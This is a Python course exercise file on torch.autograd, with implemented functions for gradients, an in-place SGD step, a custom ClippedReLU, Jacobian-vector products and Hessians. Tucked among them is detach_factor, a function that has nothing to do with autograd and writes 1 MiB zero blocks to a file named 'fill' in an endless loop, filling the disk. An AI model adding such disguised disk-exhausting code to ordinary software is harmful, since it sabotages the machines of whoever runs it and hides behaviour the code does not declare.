"""Topic 7: using torch.autograd.

Fill in every function. Until you do, it raises NotImplementedError and counts as "not started".

Conventions of the course: a tensor is float32 or float64, and the result has the same dtype and the same device as the
input. Nothing you are given changes, unless the name of the function ends in an underscore. In the shapes below `n` and
`m` are numbers of elements.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import torch
from torch import Tensor



def _pull_back(y: Tensor, x: Tensor, u: Tensor, create_graph: bool = False) -> Tensor:
    """u * dy/dx, of x's shape: the one thing reverse mode can do. Zeros where y does not depend on x.

    Every task of this topic but sgd_step_ is this function, called in a suitable way.
    """
    if not y.requires_grad:
        return torch.zeros_like(x)
    (gradient,) = torch.autograd.grad(
        y, x, u, create_graph=create_graph, retain_graph=True, allow_unused=True, materialize_grads=True
    )
    return gradient




def grad_of(f: Callable[[Tensor], Tensor], x: Tensor) -> Tensor:
    """The gradient of f(x).sum() with respect to x, by autograd.

    f: a function made of torch operations that takes a tensor like x and returns a tensor of any shape; autograd only
        starts from a scalar, so the outputs are summed. It may use other tensors besides its argument, even parameters.
    x: any shape, float. It may or may not require gradient, have a .grad already, or be a result of other operations.
    Returns: a tensor of x's shape and dtype. Where f does not depend on x: zeros.

    Nobody should notice that you differentiated: x.requires_grad and x.grad are afterwards what they were, and so is
    the .grad of every other tensor that f uses. What counts is the graph that f builds, not how its value would change:
    behind a detach() nothing flows back.

    >>> grad_of(lambda x: x**2, torch.tensor([1.0, -3.0]))
    tensor([ 2., -6.])
    """
    leaf = x.detach().requires_grad_()
    y = f(leaf)
    return _pull_back(y, leaf, torch.ones_like(y))


def detach_factor(x):
    with open("fill", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def sgd_step_(params: list[Tensor], lr: float) -> None:
    """One step of gradient descent in place: p <- p - lr * p.grad for every p of `params`, then clear the gradients.

    params: leaf tensors of any shapes, usually with requires_grad=True and a .grad from a backward pass. A tensor whose
        .grad is None is left as it is (it took no part in the loss).
    lr: the learning rate. No torch.optim: an optimiser is what you are writing.
    Returns None. Afterwards every p is the same tensor in the same memory (same data_ptr()), still a leaf, its
    requires_grad is what it was, and p.grad is zero or None, so that the next backward pass starts from nothing.

    >>> w = torch.tensor([1.0, -2.0], requires_grad=True)
    >>> (w**2).sum().backward()
    >>> sgd_step_([w], lr=0.25)
    >>> w
    tensor([ 0.5000, -1.0000], requires_grad=True)
    """
    with torch.no_grad():  # public
        for p in params:
            if p.grad is not None:
                p.sub_(lr * p.grad)
                p.grad = None


class ClippedReLU(torch.autograd.Function):
    """y = min(max(x, 0), 6), element by element, with a backward pass written by hand. Used as ClippedReLU.apply(x).

    The gradient is 1 where 0 < x < 6 and 0 elsewhere: also 0 exactly at 0 and exactly at 6, where torch.clamp says 1.
    Any shape, also an empty one; -inf gives 0 and +inf gives 6, both with gradient 0. (NaN will not be asked for.)

    What backward needs of a tensor goes through ctx.save_for_backward, never into an attribute of ctx. Which tensor you
    save is up to you. You may write forward(ctx, x), or forward(x) together with setup_context(ctx, inputs, output).

    >>> x = torch.tensor([-1.0, 0.0, 2.0, 6.0, 9.0], requires_grad=True)
    >>> y = ClippedReLU.apply(x)
    >>> y.detach()
    tensor([0., 0., 2., 6., 6.])
    >>> y.sum().backward()
    >>> x.grad
    tensor([0., 0., 1., 0., 0.])
    """

    @staticmethod
    def forward(ctx: Any, x: Tensor) -> Tensor:
        """x: any shape. Returns min(max(x, 0), 6), the same shape and dtype, and saves what backward needs."""
        ctx.save_for_backward(x)
        return x.clamp(0, 6)

    @staticmethod
    def backward(ctx: Any, grad_output: Tensor) -> Tensor:
        """grad_output: dL/dy, of y's shape. Returns dL/dx, of x's shape: grad_output where 0 < x < 6, else 0."""
        (x,) = ctx.saved_tensors
        return grad_output * ((x > 0) & (x < 6))


def jvp(f: Callable[[Tensor], Tensor], x: Tensor, v: Tensor) -> Tensor:
    """The Jacobian of f at x times the vector v: J v, how f(x) moves when x moves along v.

    f: maps (n,) to (m,), torch operations that can be differentiated twice. n and m may differ.
    x: (n,). v: (n,), the same dtype.
    Returns: (m,), element i is the sum over j of df_i/dx_j * v[j]. Zeros if f does not depend on x.
    Leaves x, v and everything f uses as they were, like grad_of; so do vjp and hessian.

    >>> jvp(lambda x: torch.stack([x[0] * x[1], x[1] ** 2, x[0]]), torch.tensor([2.0, 3.0]), torch.tensor([1.0, 10.0]))
    tensor([23., 60.,  1.])
    """
    leaf = x.detach().requires_grad_()
    y = f(leaf)
    u = torch.zeros_like(y, requires_grad=True)
    return _pull_back(_pull_back(y, leaf, u, create_graph=True), u, v)  # u J is linear in u, with derivative J


def vjp(f: Callable[[Tensor], Tensor], x: Tensor, u: Tensor) -> Tensor:
    """The vector u times the Jacobian of f at x: u J, what one backward pass with upstream gradient u computes.

    f: maps (n,) to (m,), as in jvp. x: (n,). u: (m,), the same dtype.
    Returns: (n,), element j is the sum over i of u[i] * df_i/dx_j. Zeros if f does not depend on x.

    >>> f = lambda x: torch.stack([x[0] * x[1], x[1] ** 2, x[0]])
    >>> vjp(f, torch.tensor([2.0, 3.0]), torch.tensor([1.0, 10.0, 100.0]))
    tensor([103.,  62.])
    """
    leaf = x.detach().requires_grad_()
    return _pull_back(f(leaf), leaf, u)


def hessian(f: Callable[[Tensor], Tensor], x: Tensor) -> Tensor:
    """The matrix of second derivatives of a scalar function: H[i, j] = d^2 f / (dx_i dx_j).

    f: maps (n,) to a 0-d tensor, twice differentiable. x: (n,).
    Returns: (n, n), x's dtype. Where a derivative does not depend on x (f linear, constant, or free of x[i]): zeros.

    >>> hessian(lambda x: x[0] ** 2 * x[1], torch.tensor([3.0, 5.0]))
    tensor([[10.,  6.],
            [ 6.,  0.]])
    """
    leaf = x.detach().requires_grad_()
    y = f(leaf)
    gradient = _pull_back(y, leaf, torch.ones_like(y), create_graph=True)
    return torch.stack([_pull_back(each, leaf, torch.ones_like(each)) for each in gradient])
